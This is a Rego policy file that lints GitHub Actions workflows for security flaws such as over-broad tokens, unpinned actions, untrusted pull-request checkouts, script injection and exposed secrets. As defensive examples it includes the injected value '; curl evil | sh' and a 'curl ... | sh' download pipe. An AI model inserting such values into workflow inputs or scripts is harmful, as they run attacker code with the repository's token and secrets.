# METADATA
# title: GitHub workflows
package adamant.base.workflows

import data.adamant.lib.image
import data.adamant.lib.shell
import data.adamant.lib.workflow

# METADATA
# title: A workflow token may write everything
# description: permissions write-all hands every step, and every action it runs, the power to push and release.
# custom:
#   id: workflows/write-all
#   severity: error
#   fix: "list what the job needs, for example permissions: {contents: read}"
#   failing: "permissions: write-all"
#   passing: "permissions: {contents: read}"
deny contains object.union(workflow.place(doc, at), {"message": "the token of this workflow may write everything"}) if {
	some [doc, at, permissions] in all_permissions
	permissions == "write-all"
}

# METADATA
# title: A workflow does not say what its token may do
# description: Without permissions the repository's default applies, which may be everything.
# custom:
#   id: workflows/permissions
#   severity: warning
#   fix: "write permissions: {contents: read} at the top and raise it in the jobs that need more"
#   failing: "a workflow without permissions"
#   passing: "permissions: {contents: read}"
warn contains object.union(workflow.place(doc, "/jobs"), {"message": "neither the workflow nor every job has permissions"}) if {
	some doc in input.byKind["github-workflow"]
	not has_permissions(doc.value)
	some job in doc.value.jobs
	not has_permissions(job)
}

# METADATA
# title: An action is not pinned
# description: >-
#   A tag or branch of somebody else's action can be moved to other code at any time, and that code runs with your
#   secrets. A full commit SHA cannot.
# custom:
#   id: workflows/unpinned-action
#   severity: error
#   fix: "pin the full commit SHA and keep the version as a comment: uses: owner/action@<40 digits> # v1.2.3"
#   failing: "uses: someone/deploy@v2"
#   passing: "uses: someone/deploy@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v2.1.0"
deny contains object.union(workflow.place(u.doc, u.at), {"message": sprintf("%s can be moved to other code", [u.uses])}) if {
	some u in workflow.uses
	movable(u.uses)
	not from_github(u.uses)
}

# METADATA
# title: An action of GitHub is not pinned
# description: Actions of GitHub itself are less likely to be taken over; pinning them makes runs repeatable.
# custom:
#   id: workflows/unpinned-github-action
#   severity: warning
#   fix: "pin the full commit SHA and keep the version as a comment"
#   failing: "uses: actions/checkout@v5"
#   passing: "uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0"
warn contains object.union(workflow.place(u.doc, u.at), {"message": sprintf("%s can be moved to other code", [u.uses])}) if {
	some u in workflow.uses
	movable(u.uses)
	from_github(u.uses)
}

# METADATA
# title: Strangers' code runs with your secrets
# description: >-
#   pull_request_target and workflow_run start with secrets and a writing token, for pull requests of strangers too. A
#   workflow that checks out the pull request's code there and does anything with it gives both away.
# custom:
#   id: workflows/untrusted-checkout
#   severity: error
#   fix: use the event pull_request, or do not check out the head of the pull request
#   failing: "on: pull_request_target ... uses: actions/checkout@... with: {ref: ${{ github.event.pull_request.head.sha }}}"
#   passing: "on: pull_request"
deny contains object.union(workflow.place(s.doc, s.at), {"message": "code of a pull request is checked out where secrets are at hand"}) if {
	some s in workflow.steps
	count(workflow.triggers(s.doc) & {"pull_request_target", "workflow_run", "issue_comment"}) > 0
	takes_stranger(s.step)
}

# METADATA
# title: A stranger's text becomes a command
# description: >-
#   An expression in a script is pasted in before the shell reads it. A title, branch name or comment such as
#   "; curl evil | sh" is then a command that runs with the workflow's token.
# custom:
#   id: workflows/injection
#   severity: error
#   fix: "pass the value by env: and use \"$NAME\" in the script"
#   failing: "run: echo ${{ github.event.issue.title }}"
#   passing: "env: {TITLE: ${{ github.event.issue.title }}} ... run: echo \"$TITLE\""
deny contains object.union(workflow.place(s.doc, sprintf("%s/%s", [s.at, where])), {"message": sprintf("the script pastes in text that strangers write: %s", [expression])}) if {
	some s in workflow.steps
	some where, script in {"run": object.get(s.step, "run", ""), "with/script": object.get(s.step, ["with", "script"], "")}
	is_string(script)
	some expression in regex.find_n(`(?s)\$\{\{.*?\}\}`, script, -1)
	regex.match(untrusted, dotted(expression))
}

# METADATA
# title: Every secret is put into one value
# description: "toJSON(secrets) gives a step every secret there is, now and later, and logs do not mask it as a whole."
# custom:
#   id: workflows/all-secrets
#   severity: error
#   fix: name the secrets the step needs
#   failing: "env: {ALL: ${{ toJSON(secrets) }}}"
#   passing: "env: {DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}}"
deny contains object.union(workflow.place(s.doc, s.at), {"message": "a step gets every secret"}) if {
	some s in workflow.steps
	some key in ["env", "run", "with"]
	regex.match(`(?is)\$\{\{.*tojson\(\s*secrets\s*\)`, sprintf("%v", [s.step[key]]))
}

# METADATA
# title: Steps may command the runner by what they print
# description: With this switch everything that is printed, also a stranger's text, can set variables and paths of later steps.
# custom:
#   id: workflows/unsecure-commands
#   severity: error
#   fix: write to $GITHUB_ENV and $GITHUB_PATH instead
#   failing: "env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}"
#   passing: "run: echo NAME=value >> \"$GITHUB_ENV\""
deny contains object.union(workflow.place(doc, at), {"message": "commands are taken from what steps print"}) if {
	some [doc, at, env] in environments
	sprintf("%v", [env.ACTIONS_ALLOW_UNSECURE_COMMANDS]) == "true"
}

# METADATA
# title: A step runs a download unseen
# description: curl | sh runs whatever the server sends that day, with the job's token and secrets.
# custom:
#   id: workflows/curl-sh
#   severity: warning
#   fix: use a pinned action, or download a fixed version and compare its checksum
#   failing: "run: curl -fsSL https://example.com/install.sh | sh"
#   passing: "run: curl -fsSLO https://example.com/install-1.2.sh && sha256sum -c sums && sh install-1.2.sh"
warn contains object.union(workflow.place(s.doc, sprintf("%s/run", [s.at])), {"message": "a download is piped into a shell"}) if {
	some s in workflow.steps
	is_string(s.step.run)
	shell.runs_download(s.step.run)
}

# METADATA
# title: A job's image can change under you
# description: No tag, or latest, is another image in the next run, and it holds your code and token.
# custom:
#   id: workflows/image-latest
#   severity: warning
#   fix: "name a version and its digest: node:22.11@sha256:..."
#   failing: "container: node:latest"
#   passing: "container: node:22.11@sha256:..."
warn contains object.union(workflow.place(j.doc, j.at), {"message": sprintf("the job runs in %s, which is another image tomorrow", [name])}) if {
	some j in workflow.jobs
	some name in images(j.job)
	is_string(name)
	image.mutable(name)
}

# METADATA
# title: All secrets are handed to somebody else's workflow
# description: "secrets: inherit gives a reusable workflow every secret there is, now and later."
# custom:
#   id: workflows/secrets-inherit
#   severity: error
#   fix: name the secrets the workflow needs
#   failing: "uses: someone/workflows/.github/workflows/x.yml@... with secrets: inherit"
#   passing: "secrets: {DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}}"
deny contains object.union(workflow.place(j.doc, sprintf("%s/secrets", [j.at])), {"message": sprintf("%s gets every secret", [j.job.uses])}) if {
	some j in workflow.jobs
	j.job.secrets == "inherit"
	is_string(j.job.uses)
	not startswith(j.job.uses, "./")
}

# METADATA
# title: All secrets are handed to a workflow of this repository
# description: A reusable workflow of your own needs some secrets, seldom all of them.
# custom:
#   id: workflows/secrets-inherit-local
#   severity: warning
#   fix: name the secrets the workflow needs
#   failing: "uses: ./.github/workflows/deploy.yml with secrets: inherit"
#   passing: "secrets: {DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}}"
warn contains object.union(workflow.place(j.doc, sprintf("%s/secrets", [j.at])), {"message": sprintf("%s gets every secret", [j.job.uses])}) if {
	some j in workflow.jobs
	j.job.secrets == "inherit"
	is_string(j.job.uses)
	startswith(j.job.uses, "./")
}

# METADATA
# title: Strangers' code runs on your own machine
# description: >-
#   In a public repository anybody can open a pull request, and its code runs on the self-hosted runner: your machine, your
#   network.
# custom:
#   id: workflows/self-hosted
#   severity: warning
#   fix: run pull requests on hosted runners, or approve this once if the repository is private
#   failing: "on: pull_request ... runs-on: [self-hosted, linux]"
#   passing: "on: push ... runs-on: [self-hosted, linux]"
hold contains object.union(workflow.place(j.doc, sprintf("%s/runs-on", [j.at])), {"message": "pull requests run on a self-hosted runner"}) if {
	some j in workflow.jobs
	count(workflow.triggers(j.doc) & {"pull_request", "pull_request_target", "issue_comment"}) > 0
	"self-hosted" in labels(j.job["runs-on"])
}

images(job) := {name | name := job.container} | {name | name := job.container.image} | {service.image | some service in job.services}

takes_stranger(step) if {
	is_string(step.uses)
	startswith(step.uses, "actions/checkout@")
	regex.match(stranger, sprintf("%v %v", [object.get(step, ["with", "ref"], ""), object.get(step, ["with", "repository"], "")]))
}

takes_stranger(step) if {
	is_string(step.run)
	regex.match(`\bgh\s+pr\s+checkout\b|\bgit\s+(fetch|pull|checkout|switch)\b[^\n]*(\bpull/|refs/pull/|pull_request\.head|head_ref|head_sha|head_branch)`, step.run)
}

stranger := `github\.event\.(pull_request\.head|workflow_run\.head)|github\.head_ref|refs/pull/`

environments := array.concat(
	[[doc, "/env", doc.value.env] | some doc in input.byKind["github-workflow"]],
	array.concat(
		[[j.doc, sprintf("%s/env", [j.at]), j.job.env] | some j in workflow.jobs],
		[[s.doc, sprintf("%s/env", [s.at]), s.step.env] | some s in workflow.steps],
	),
)

has_permissions(value) if some "permissions", _ in value

all_permissions := array.concat(
	[[doc, "/permissions", doc.value.permissions] | some doc in input.byKind["github-workflow"]],
	[[j.doc, sprintf("%s/permissions", [j.at]), j.job.permissions] | some j in workflow.jobs],
)

movable(uses) if {
	not startswith(uses, "./")
	not startswith(uses, "$/") # the repository itself
	not startswith(uses, "docker://")
	not regex.match(`@([0-9a-f]{40}|[0-9a-f]{64})$`, uses)
}

movable(uses) if {
	startswith(uses, "docker://")
	not contains(uses, "@sha256:")
}

from_github(uses) if regex.match(`^(actions|github)/`, uses)

# untrusted names what strangers write: titles, texts, branch names, mail addresses.
untrusted := `github\.(head_ref|event\.([a-z0-9_*.]+\.)?(title|body|message|label|ref|name|email|page_name|default_branch|description|head_branch|display_title))\b`

# dotted writes a['b'] as a.b.
dotted(expression) := regex.replace(lower(expression), `\[['"]?([^\]'"]*)['"]?\]`, ".$1")

labels(runs_on) := {runs_on} if is_string(runs_on)

labels(runs_on) := {label | some label in runs_on} if is_array(runs_on)

labels(runs_on) := {runs_on.labels} | {label | some label in runs_on.labels} if is_object(runs_on)
